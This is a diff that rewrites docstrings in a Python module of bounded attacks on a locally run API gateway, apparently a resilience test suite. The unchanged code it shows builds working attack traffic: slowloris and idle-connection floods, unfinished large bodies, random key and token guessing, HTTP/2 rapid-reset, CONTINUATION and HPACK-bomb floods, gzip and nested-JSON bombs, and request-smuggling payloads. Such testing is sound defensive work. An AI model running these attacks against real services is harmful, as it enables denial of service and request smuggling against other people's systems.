@@ -1,7 +1,7 @@
-"""Attacks on a front door, each of one process, bounded in connections and in time, against an address of this machine.
+"""Attacks on a front door at an address of this machine, each in one process and with limited connections and time.
 
-Each is a function of an `AttackTarget` and of the time at which it ends, and returns what it counted. Bytes are written
-by hand, as no library of HTTP lets one send what these send.
+Each attack is a function of an `AttackTarget` and the end time (`time.monotonic`), and returns counts of what happened.
+Requests are written as bytes, since HTTP libraries refuse to send them.
 """
 
 import json
@@ -28,7 +28,17 @@ Counts = Counter[str]
 
 @dataclass(frozen=True)
 class AttackTarget:
-    """A front door: where it listens, what trusts its certificate, the keys of two clients, and the name of a model."""
+    """Front door under attack.
+
+    Attributes:
+        address: IP address.
+        port: TCP port.
+        host: host name of its certificate.
+        chain: certificate chain in PEM, which clients trust.
+        key: API key (or token) of the first client.
+        other_key: API key (or token) of the second client.
+        model: name of a served model.
+    """
 
     address: str
     port: int
@@ -39,18 +49,18 @@ class AttackTarget:
     model: str
 
     def connect(self, *, alpn: str = "http/1.1", source: int = 0) -> ssl.SSLSocket:
-        """A connection with TLS, from 127.0.0.SOURCE where that is said."""
+        """Return a new TLS connection, from source address 127.0.0.SOURCE if `source` is given."""
         context = ssl.create_default_context(cadata=self.chain)
         context.set_alpn_protocols([alpn])
         return context.wrap_socket(self.plain(source), server_hostname=self.host)
 
     def plain(self, source: int = 0) -> socket.socket:
-        """A connection before any handshake."""
+        """Return a new TCP connection without TLS handshake."""
         found = (f"127.0.0.{source}", 0) if source else None
         return socket.create_connection((self.address, self.port), timeout=_LIMIT_S, source_address=found)
 
     def head(self, *headers: str, key: str | None = None, path: str = PATH, method: str = "POST") -> bytes:
-        """Head of a request with a key: the client's own if none is given."""
+        """Return the head of a request with `key`, by default the first client's."""
         lines = [
             f"{method} {path} HTTP/1.1",
             f"host: {self.host}",
@@ -81,7 +91,9 @@ def _status(answer: bytes) -> str:
 
 
 def _answer(one: socket.socket, wait_s: float = 0.0) -> str | None:
-    """Return the status of what came back, `closed` where the connection ended, None where nothing came."""
+    """Return the status of the response, `closed` if the connection ended, None if no response came within `wait_s`
+    seconds.
+    """
     one.settimeout(max(wait_s, 0.001))
     try:
         return _status(one.recv(65536))
@@ -92,7 +104,7 @@ def _answer(one: socket.socket, wait_s: float = 0.0) -> str | None:
 
 
 def _sent(one: socket.socket, data: bytes) -> bool:
-    """Send data, and return whether all of it was taken within a second and a half."""
+    """Send data, and return whether the server accepted all of it within 1.5 seconds."""
     one.settimeout(1.5)
     try:
         one.sendall(data)
@@ -102,7 +114,7 @@ def _sent(one: socket.socket, data: bytes) -> bool:
 
 
 def _bodies(target: AttackTarget, end_s: float, head: bytes, number: int = 200) -> Counts:
-    """Requests with bodies of 31 MiB that end before the last MiB."""
+    """Send requests whose bodies of 31 MiB stop before the last MiB, on up to `number` open connections."""
     seen, held = Counts(), list[socket.socket]()
     piece = b"x" * _MIB
     framed = b"%x\r\n%s\r\n" % (len(piece), piece) if b"chunked" in head else piece
@@ -130,32 +142,34 @@ def _bodies(target: AttackTarget, end_s: float, head: bytes, number: int = 200) 
 
 
 def unfinished_bodies(target: AttackTarget, end_s: float) -> Counts:
-    """Bodies of 31 MiB that are never finished, with a valid key."""
+    """Send bodies of 31 MiB that never end, with a valid key."""
     return _bodies(target, end_s, target.head(_WHOLE))
 
 
 def unfinished_chunked_bodies(target: AttackTarget, end_s: float) -> Counts:
-    """Bodies of 31 MiB that are never finished, without a length."""
+    """Send chunked bodies of 31 MiB that never end."""
     return _bodies(target, end_s, target.head(_CHUNKED))
 
 
 def unfinished_gets(target: AttackTarget, end_s: float) -> Counts:
-    """Bodies of 31 MiB that are never finished, by a method whose requests have no body."""
+    """Send chunked bodies of 31 MiB that never end, in GET requests, which have no body."""
     return _bodies(target, end_s, target.head(_CHUNKED, path=_LIST, method="GET"))
 
 
 def longer_than_allowed(target: AttackTarget, end_s: float) -> Counts:
-    """Bodies with a length that is larger than any that is allowed, never finished."""
+    """Send bodies that never end, with a Content-Length above the limit."""
     return _bodies(target, end_s, target.head(f"content-length: {40 * _MIB}"))
 
 
 def unfinished_bodies_of_strangers(target: AttackTarget, end_s: float) -> Counts:
-    """Bodies of 31 MiB that are never finished, with keys that nobody has."""
+    """Send bodies of 31 MiB that never end, with an invalid key."""
     return _bodies(target, end_s, target.head(_WHOLE, key="sk-" + "0" * 40))
 
 
 def reservations_of_two_clients(target: AttackTarget, end_s: float) -> Counts:
-    """Forty requests without a length of each of two clients, of one byte each, whose connections end at once."""
+    """Send forty chunked requests of one byte for each of two clients every second, and close their connections
+    immediately.
+    """
     seen = Counts()
     while time.monotonic() < end_s:
         for key in (target.key, target.other_key):
@@ -169,7 +183,7 @@ def reservations_of_two_clients(target: AttackTarget, end_s: float) -> Counts:
 
 
 def long_names(target: AttackTarget, end_s: float) -> Counts:
-    """Fields of 30 MiB that are refused by their names, whose answers are read, on eight connections."""
+    """Send JSON keys of 30 MiB that are refused, on eight connections, and read the answers."""
     seen = Counts()
     body = b'{"kv_' + b"x" * (30 * _MIB) + b'":1}'
     head = target.head(f"content-length: {len(body)}", "connection: close")
@@ -194,7 +208,7 @@ def long_names(target: AttackTarget, end_s: float) -> Counts:
 
 
 def unanswered_bodies(target: AttackTarget, end_s: float) -> Counts:
-    """Whole requests of 31 MiB that no server answers."""
+    """Send complete requests of 31 MiB that the server behind the front door doesn't answer."""
     seen, held = Counts(), list[socket.socket]()
     body = json.dumps({"model": target.model, "prompt": "wait", "suffix": "x" * (31 * _MIB)}).encode()
     with _closing(held):
@@ -209,7 +223,7 @@ def unanswered_bodies(target: AttackTarget, end_s: float) -> Counts:
 
 
 def slow_headers(target: AttackTarget, end_s: float) -> Counts:
-    """Two thousand connections that each send one byte of a request's head in a second."""
+    """Send one byte of a request's head per second on each of two thousand connections."""
     seen, held = Counts(), list[socket.socket]()
     with _closing(held):
         while time.monotonic() < end_s:
@@ -253,17 +267,17 @@ def _idle(target: AttackTarget, end_s: float, number: int, *, encrypted: bool) -
 
 
 def idle_connections(target: AttackTarget, end_s: float) -> Counts:
-    """Eighteen thousand connections that send nothing."""
+    """Open eighteen thousand TCP connections that send nothing."""
     return _idle(target, end_s, 18000, encrypted=False)
 
 
 def idle_encrypted_connections(target: AttackTarget, end_s: float) -> Counts:
-    """Connections that send nothing after the TLS handshake, as many as one process makes."""
+    """Open up to eighteen thousand connections that send nothing after the TLS handshake."""
     return _idle(target, end_s, 18000, encrypted=True)
 
 
 def guessed_keys(target: AttackTarget, end_s: float) -> Counts:
-    """Requests with keys by chance, one after the other on ten connections."""
+    """Send requests with random keys on ten connections."""
     return _guessed(target, end_s, lambda: f"sk-{os.urandom(24).hex()}")
 
 
@@ -286,13 +300,13 @@ def _guessed(target: AttackTarget, end_s: float, guess: Callable[[], str]) -> Co
 
 
 def guessed_tokens(target: AttackTarget, end_s: float) -> Counts:
-    """Requests with tokens by chance in the form of the provider's, where clients have tokens."""
+    """Send requests with a valid token's claims and random signatures on ten connections."""
     said = target.key.rpartition(".")[0]
     return _guessed(target, end_s, lambda: f"{said}.{urlsafe_b64encode(os.urandom(64)).decode().rstrip('=')}")
 
 
 def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
-    """A frame of HTTP/2 (RFC 9113, section 4.1)."""
+    """Return a frame of HTTP/2 (RFC 9113, section 4.1)."""
     return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
 
 
@@ -301,12 +315,12 @@ _END_STREAM, _END_HEADERS = 1, 4
 
 
 def _literal(name: str, value: str) -> bytes:
-    """A header that is not indexed (RFC 7541, section 6.2.2)."""
+    """Return a literal header field without indexing (RFC 7541, section 6.2.2)."""
     return b"\x00" + b"".join(_length(len(text)) + text for text in (name.encode(), value.encode()))
 
 
 def _length(number: int) -> bytes:
-    """An integer with a prefix of seven bits."""
+    """Return an integer with a prefix of seven bits (RFC 7541, section 5.1)."""
     if number < 127:
         return bytes((number,))
     rest, data = number - 127, bytearray((127,))
@@ -330,7 +344,7 @@ def _block(target: AttackTarget, *more: tuple[str, str], method: str = "POST", p
 
 
 def _http2(target: AttackTarget, end_s: float, flood: Callable[[AttackTarget, ssl.SSLSocket, float], int]) -> Counts:
-    """Connections one after the other, on each of which frames are sent until it ends."""
+    """Open HTTP/2 connections one after the other, and call `flood` on each until it ends."""
     seen = Counts()
     while time.monotonic() < end_s:
         try:
@@ -361,7 +375,7 @@ def _counted(one: ssl.SSLSocket, end_s: float, frames: Callable[[int], bytes], e
 
 
 def rapid_resets(target: AttackTarget, end_s: float) -> Counts:
-    """HTTP/2 streams that are reset as soon as they are opened (CVE-2023-44487)."""
+    """Reset HTTP/2 streams immediately after opening them (CVE-2023-44487)."""
 
     def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
         block = _block(target)
@@ -379,7 +393,7 @@ def rapid_resets(target: AttackTarget, end_s: float) -> Counts:
 
 
 def continuations(target: AttackTarget, end_s: float) -> Counts:
-    """HTTP/2 headers that never end (CVE-2024-30255)."""
+    """Send HTTP/2 headers that never end (CVE-2024-30255)."""
 
     def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
         one.sendall(_frame(_HEADERS, 0, 1, _block(target)))
@@ -390,7 +404,7 @@ def continuations(target: AttackTarget, end_s: float) -> Counts:
 
 
 def header_bombs(target: AttackTarget, end_s: float) -> Counts:
-    """HTTP/2 headers that are indexed once and named four thousand times (CVE-2016-6581's kind)."""
+    """Send HTTP/2 headers that index one large field and refer to it four thousand times (similar to CVE-2016-6581)."""
 
     def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
         kept = b"\x40" + _length(1) + b"x" + _length(3800) + b"y" * 3800
@@ -402,7 +416,7 @@ def header_bombs(target: AttackTarget, end_s: float) -> Counts:
 
 
 def pings(target: AttackTarget, end_s: float) -> Counts:
-    """HTTP/2 PING and SETTINGS frames whose answers are not read (CVE-2019-9512, CVE-2019-9515)."""
+    """Send HTTP/2 PING and SETTINGS frames without reading the answers (CVE-2019-9512, CVE-2019-9515)."""
 
     def flood(_: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
         frames = (_frame(_PING, 0, 0, bytes(8)) + _frame(_SETTINGS, 0, 0, b"")) * 500
@@ -417,7 +431,7 @@ def pings(target: AttackTarget, end_s: float) -> Counts:
 
 
 def empty_frames(target: AttackTarget, end_s: float) -> Counts:
-    """HTTP/2 DATA frames without data (CVE-2019-9518)."""
+    """Send HTTP/2 DATA frames without data (CVE-2019-9518)."""
 
     def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
         one.sendall(_frame(_HEADERS, _END_HEADERS, 1, _block(target)))
@@ -427,17 +441,17 @@ def empty_frames(target: AttackTarget, end_s: float) -> Counts:
 
 
 def many_streams(target: AttackTarget, end_s: float) -> Counts:
-    """HTTP/2 connections with all the streams that they may have, each with a body that never ends."""
+    """Open the maximum number of streams of HTTP/2 connections, each with a body that never ends."""
     return _streams(target, end_s, _block(target, ("content-length", str(31 * _MIB))))
 
 
 def many_get_streams(target: AttackTarget, end_s: float) -> Counts:
-    """HTTP/2 streams by a method whose requests have no body, each with a body without a length that never ends."""
+    """Open the maximum number of HTTP/2 streams with GET requests, each with a body without length that never ends."""
     return _streams(target, end_s, _block(target, method="GET", path=_LIST))
 
 
 def many_longer_streams(target: AttackTarget, end_s: float) -> Counts:
-    """HTTP/2 streams whose bodies have a length that is larger than any that is allowed."""
+    """Open the maximum number of HTTP/2 streams, each with a body whose Content-Length is above the limit."""
     return _streams(target, end_s, _block(target, ("content-length", str(40 * _MIB))))
 
 
@@ -463,7 +477,7 @@ def _streams(target: AttackTarget, end_s: float, block: bytes) -> Counts:
 
 
 def unread_answers(target: AttackTarget, end_s: float) -> Counts:
-    """Answers of 16 MiB that nobody reads, on two hundred connections."""
+    """Request answers of 16 MiB on two hundred connections without reading them."""
     seen, held = Counts(), list[socket.socket]()
     body = json.dumps({"model": target.model, "prompt": "large"}).encode()
     with _closing(held):
@@ -489,7 +503,7 @@ def _posted(target: AttackTarget, end_s: float, body: bytes, *headers: str) -> C
 
 
 def compressed_bombs(target: AttackTarget, end_s: float) -> Counts:
-    """Bodies of 30 MiB that would be 30 GiB if somebody unpacked them."""
+    """Send gzip bodies of 30 MiB that would expand to about 30 GiB."""
     import gzip  # noqa: PLC0415 - of this one alone
 
     packed = gzip.compress(bytes(64 * _MIB), 9)
@@ -498,19 +512,19 @@ def compressed_bombs(target: AttackTarget, end_s: float) -> Counts:
 
 
 def nested_bodies(target: AttackTarget, end_s: float) -> Counts:
-    """JSON of fifteen million lists in each other."""
+    """Send JSON with fifteen million nested arrays."""
     depth = 15 * _MIB
     return _posted(target, end_s, b'{"a":' + b"[" * depth + b"]" * depth + b',"model":"x"}')
 
 
 def wide_bodies(target: AttackTarget, end_s: float) -> Counts:
-    """JSON of two million keys."""
+    """Send JSON with two million keys."""
     keys = b",".join(b'"k%d":{}' % i for i in range(2_000_000))
     return _posted(target, end_s, b"{" + keys + b',"model":"x"}')
 
 
 def smuggled(target: AttackTarget, end_s: float) -> Counts:
-    """Requests whose end can be read in two ways, again and again (RFC 9112, sections 6.3 and 11.2)."""
+    """Send requests with ambiguous ends (request smuggling, RFC 9112, sections 6.3 and 11.2)."""
     seen = Counts()
     cases = smuggling_cases(target)
     while time.monotonic() < end_s:
@@ -522,7 +536,7 @@ def smuggled(target: AttackTarget, end_s: float) -> Counts:
 
 
 def smuggling_cases(target: AttackTarget) -> dict[str, bytes]:
-    """Bytes of requests by their name, each with a second request for `/smuggled` that a confused reader would see."""
+    """Return requests by name, each followed by a request for `/smuggled` that a misled parser would see."""
     hidden = target.head("content-length: 0", path="/smuggled")
     inner = json.dumps({"model": target.model, "prompt": "x"}).encode()
     size = len(inner)
@@ -554,7 +568,7 @@ def smuggling_cases(target: AttackTarget) -> dict[str, bytes]:
 
 
 def smuggled_http2(target: AttackTarget, end_s: float) -> Counts:
-    """HTTP/2 headers that would be another request in HTTP/1."""
+    """Send HTTP/2 headers that would make another request when translated to HTTP/1."""
     cases: Sequence[tuple[str, str]] = (
         ("x-a", "b\r\ntransfer-encoding: chunked"),
         ("transfer-encoding", "chunked"),
@@ -609,11 +623,13 @@ ATTACKS: tuple[Attack, ...] = (
 )
 
 OF_TOKENS: tuple[Attack, ...] = (guessed_tokens,)
-"""Attacks on a front door whose clients have tokens; the keys of their target are tokens."""
+"""Attacks on a front door whose clients authenticate with tokens; the keys of the target are then tokens."""
 
 
 def main() -> None:
-    """Run one attack: its name, the target as JSON, and seconds."""
+    """Run one attack; the arguments are its name, the target as JSON, and its duration in seconds. Print the counts as
+    JSON.
+    """
     name, target, seconds = sys.argv[1:]
     attack = next(attack for attack in ATTACKS if attack.__name__ == name)
     print(json.dumps(attack(AttackTarget(**json.loads(target)), time.monotonic() + float(seconds))))
